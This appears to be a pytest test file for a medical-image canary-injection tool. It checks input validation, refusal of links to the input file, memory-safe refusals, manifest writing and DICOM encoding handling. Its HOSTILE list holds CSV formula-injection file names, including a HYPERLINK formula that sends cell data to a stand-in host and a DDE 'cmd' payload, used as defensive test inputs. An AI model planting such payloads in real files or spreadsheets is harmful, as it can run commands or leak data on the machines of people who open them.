"""The injector's safety rules, each from a hostile-user report, on real files.

Options are validated before the dataset changes; the input is never an output
(any format, any link); the text box is checked before anything is allocated; the
manifest location is checked before anything is written; the CSV cannot run
formulas; an inconsistently encoded real file is written in its declared encoding.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import json
import os
import shutil
import tracemalloc
import warnings
from pathlib import Path

import nibabel as nib
import numpy as np
import pydicom
import pytest
from PIL import Image
from pydicom.pixels import get_decoder
from pydicom_files import real_file

from monai_forget.canary import render_text
from monai_forget.cli import main
from monai_forget.dicom import (
    BurnInOptions,
    InjectionError,
    ManifestRecord,
    TextHasher,
    burn_in,
    inject_any,
    inject_file,
    write_manifest,
)


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def ct_pixels() -> np.ndarray:
    return pydicom.dcmread(real_file("CT_small.dcm")).pixel_array


def make_input(tmp_path: Path, kind: str) -> Path:
    """A real CT slice as DICOM, PNG or NIfTI."""
    if kind == "dcm":
        path = tmp_path / "ct.dcm"
        shutil.copyfile(real_file("CT_small.dcm"), path)
    elif kind == "png":
        path = tmp_path / "img.png"
        ct = ct_pixels().astype(np.int64)
        Image.fromarray((ct - ct.min()).astype(np.uint16)).save(path)
    else:
        path = tmp_path / "vol.nii.gz"
        nib.save(nib.Nifti1Image(np.stack([ct_pixels()] * 2, -1), np.eye(4)), path)
    return path


# --- A2: validate before mutating -------------------------------------------------


def _compressed_multiframe() -> pydicom.Dataset:
    """A compressed two-frame real file when its decoder is installed."""
    path = real_file("SC_rgb_rle_2frame.dcm")  # RLE Lossless, 2 frames
    ds = pydicom.dcmread(path)
    if not get_decoder(ds.file_meta.TransferSyntaxUID).is_available:
        ds = pydicom.dcmread(path)
        ds.decompress()  # fall back to the uncompressed multi-frame form
    return ds


@pytest.mark.parametrize(
    ("options", "match"),
    [
        ({"text": "A", "frames": (5,)}, r"frames \[5\] are not valid for a 2-frame"),
        ({"text": "A", "frames": ()}, r"frames \[\] are not valid"),
        ({"text": "A_"}, "a character outside the monai-forget-5x5 typeface"),
        ({"text": "A", "position": (99, 0)}, "image is 100x100"),
        ({"text": "A", "scale": 0}, "an integer >= 1"),
    ],
)
def test_refused_option_leaves_dataset_unchanged(options, match):
    ds = _compressed_multiframe()
    before = copy.deepcopy(ds)
    with pytest.raises(ValueError, match=match):
        burn_in(ds, BurnInOptions(**options))
    assert ds == before
    assert ds.PixelData == before.PixelData
    assert ds.file_meta.TransferSyntaxUID == before.file_meta.TransferSyntaxUID
    assert ds.file_meta == before.file_meta
    assert ds.PhotometricInterpretation == before.PhotometricInterpretation


# --- B1: the input is never an output ------------------------------------------------


@pytest.mark.parametrize("kind", ["png", "nii.gz", "dcm"])
def test_output_is_input_refused_for_every_format(tmp_path, capsys, kind):
    src = make_input(tmp_path, kind)
    before = digest(src)
    args = ["canary", "inject", str(src), str(src), "--text", "AB", "--overwrite"]
    assert main(args) == 2
    assert "is the input" in capsys.readouterr().err
    assert digest(src) == before


@pytest.mark.parametrize("kind", ["png", "nii.gz", "dcm"])
@pytest.mark.parametrize("link", ["hard", "symbolic", "dotted"])
def test_links_to_the_input_are_refused(tmp_path, kind, link):
    src = make_input(tmp_path, kind)
    before = digest(src)
    other = tmp_path / f"other.{kind}"
    if link == "hard":
        os.link(src, other)
    elif link == "symbolic":
        other.symlink_to(src)
    else:
        (tmp_path / "sub").mkdir()
        other = tmp_path / "sub" / ".." / src.name
    with pytest.raises(InjectionError, match="is the input"):
        inject_any(src, other, BurnInOptions(text="AB"), overwrite=True)
    assert digest(src) == before


# --- B3: the text box is checked before anything is allocated -----------------------


@pytest.mark.parametrize("kind", ["dcm", "png", "nii.gz"])
@pytest.mark.parametrize("scale", [3000, 1_000_000])
def test_huge_scale_refused_without_allocating(tmp_path, kind, scale):
    src = make_input(tmp_path, kind)
    tracemalloc.start()
    try:
        with pytest.raises(InjectionError, match="image is 128x128"):
            inject_any(src, tmp_path / f"out.{kind}", BurnInOptions(text="AB", scale=scale))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 16 * 2**20, f"peak {peak / 2**20:.0f} MiB before the refusal"


def test_huge_scale_from_the_command_line(tmp_path, capsys):
    code = main(
        [
            *("canary", "inject", str(real_file("CT_small.dcm")), str(tmp_path / "o.dcm")),
            *("--text", "AB", "--scale", "1000000"),
        ]
    )
    err = capsys.readouterr().err
    assert code == 2 and "5000000x11000000 pixels" in err and "image is 128x128" in err
    assert list(tmp_path.iterdir()) == []


# --- B6: no output without its manifest ----------------------------------------------


def test_unwritable_manifest_refused_before_output(tmp_path, capsys):
    blocker = tmp_path / "not_a_folder"
    blocker.write_text("a file where the manifest folder should be")
    out = tmp_path / "canary.dcm"
    code = main(
        [
            *("canary", "inject", str(real_file("CT_small.dcm")), str(out), "--text", "AB"),
            *("--manifest", str(blocker / "m")),
        ]
    )
    err = capsys.readouterr().err
    assert code == 2 and "cannot write the manifest" in err and "nothing was written" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["not_a_folder"]


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_read_only_manifest_folder_refused_before_output(tmp_path, capsys):
    folder = tmp_path / "manifests"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        code = main(
            [
                *("canary", "inject", str(real_file("CT_small.dcm")), str(tmp_path / "o.dcm")),
                *("--text", "AB", "--manifest", str(folder / "m")),
            ]
        )
    finally:
        folder.chmod(0o755)
    assert code == 2 and "cannot write the manifest" in capsys.readouterr().err
    assert not (tmp_path / "o.dcm").exists()


def test_write_manifest_checks_its_folder_first(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(InjectionError, match="cannot write the manifest"):
        write_manifest([], blocker / "m", TextHasher())


# --- B7: no formulas in the CSV ------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("https:example.invalid?"&A1,"open").dcm',
    "+cmd|' /C calc'!A0.dcm",
    "-2+3+cmd.dcm",
    "@SUM(1+1)*cmd.dcm",
    "\tTAB.dcm",
    "\rCR.dcm",
    "\r=cmd.dcm",  # a carriage return must not start a new row that begins with "="
]


def test_csv_neutralises_formulas_json_keeps_true_values(tmp_path):
    records = [ManifestRecord("copied", name, f"out/{name}", "0" * 64) for name in HOSTILE]
    records.append(
        ManifestRecord("skipped", "-link", "", reason="symbolic link to outside the input tree")
    )
    json_path, csv_path = write_manifest(records, tmp_path / "m", TextHasher())
    rows = list(csv.DictReader(csv_path.open(newline="")))
    assert [r["input"] for r in rows] == ["'" + n for n in HOSTILE] + ["'-link"]
    assert [r["output"] for r in rows][:2] == [f"out/{n}" for n in HOSTILE[:2]]  # not at start
    document = json.loads(json_path.read_text())
    assert [r["input"] for r in document["records"]] == [*HOSTILE, "-link"]


def test_negative_numbers_stay_numbers(tmp_path):
    rows = [{"action": "injected", "input": "a.dcm", "value": -1024, "frames": [0]}]
    _, csv_path = write_manifest(rows, tmp_path / "m", TextHasher())
    row = next(csv.DictReader(csv_path.open(newline="")))
    assert row["value"] == "-1024" and row["frames"] == "[0]"


def test_hostile_file_name_through_the_command_line(tmp_path, monkeypatch):
    tree = tmp_path / "in"
    tree.mkdir()
    name = '=HYPERLINK("https:example.invalid","x").dcm'
    shutil.copyfile(real_file("CT_small.dcm"), tree / name)
    monkeypatch.chdir(tree)  # relative paths put the file name at the start of the cell
    assert main(["canary", "inject", ".", "../out", "--text", "AB"]) == 0
    rows = list(csv.DictReader((tmp_path / "out.manifest.csv").open(newline="")))
    assert rows[0]["input"] == "'" + name
    records = json.loads((tmp_path / "out.manifest.json").read_text())["records"]
    assert records[0]["input"] == name
    assert (tmp_path / "out" / name).is_file()


# --- B8: a real file encoded implicit VR under an explicit transfer syntax -----------


def test_inconsistent_encoding_is_written_in_the_declared_one(tmp_path, capsys):
    src = real_file("SC_rgb_jpeg.dcm")  # JPEG Baseline, dataset implicit VR
    out = tmp_path / "out.dcm"
    code = main(["canary", "inject", str(src), str(out), "--text", "AB"])
    assert code == 0, capsys.readouterr().err
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # "Expected explicit VR, but found implicit VR"
        ds_out = pydicom.dcmread(out)
        ds_out.PatientName  # noqa: B018  (elements parse without a warning)
    assert ds_out.file_meta.TransferSyntaxUID == pydicom.uid.ExplicitVRLittleEndian
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        ds_in = pydicom.dcmread(src)
    for elem in ds_in:
        if elem.keyword not in {"PixelData", "SOPInstanceUID", "ImageType", "PlanarConfiguration"}:
            assert ds_out[elem.tag].value == elem.value, elem.keyword
    ds_out.pixel_array_options(as_rgb=False)
    text = ds_out.pixel_array[1:6, 1:12][render_text("AB")]
    assert (text == 255).all()


def test_unencodable_dataset_refused_naming_file_and_tag(tmp_path, capsys, monkeypatch):
    """Without the encoding fix the same file must still end in a one-line refusal."""
    monkeypatch.setattr("monai_forget.dicom.inject._align_encoding", lambda ds: None)
    src = real_file("SC_rgb_jpeg.dcm")
    code = main(["canary", "inject", str(src), str(tmp_path / "o.dcm"), "--text", "AB"])
    err = capsys.readouterr().err
    assert code == 2 and err.count("\n") == 1
    assert str(src) in err and "With tag (0008," in err and "does not match its VR" in err
    assert list(tmp_path.iterdir()) == []


def test_record_keys_are_unchanged(tmp_path):
    """The manifest keys users' pipelines read, in their order, per format (the count of
    pixels the burn-in changed added after the text, issue 54)."""
    dicom = inject_file(real_file("MR_small.dcm"), tmp_path / "o.dcm", BurnInOptions(text="A"))
    png = inject_any(make_input(tmp_path, "png"), tmp_path / "o.png", BurnInOptions(text="A"))
    common = [
        *("action", "input", "output", "old_sop_instance_uid", "new_sop_instance_uid"),
        *("bbox_row", "bbox_col", "bbox_height", "bbox_width", "frames", "typeface"),
        *("scale", "value", "text_source", "n_chars", "text_hmac_sha256", "pixels_changed"),
    ]
    recoding = ["transfer_syntax_in", "transfer_syntax_out", "photometric_in", "photometric_out"]
    assert list(dicom.to_dict()) == [*common, *recoding, "output_sha256"]
    assert list(png.to_dict()) == [*common, "output_sha256"]
    assert png.to_dict()["frames"] is None and png.to_dict()["old_sop_instance_uid"] == ""
    copied = ManifestRecord("copied", "a", "b", "c").to_dict()
    assert list(copied) == ["action", "input", "output", "output_sha256"]
    assert list(ManifestRecord("copied", "a", "b").to_dict()) == ["action", "input", "output"]
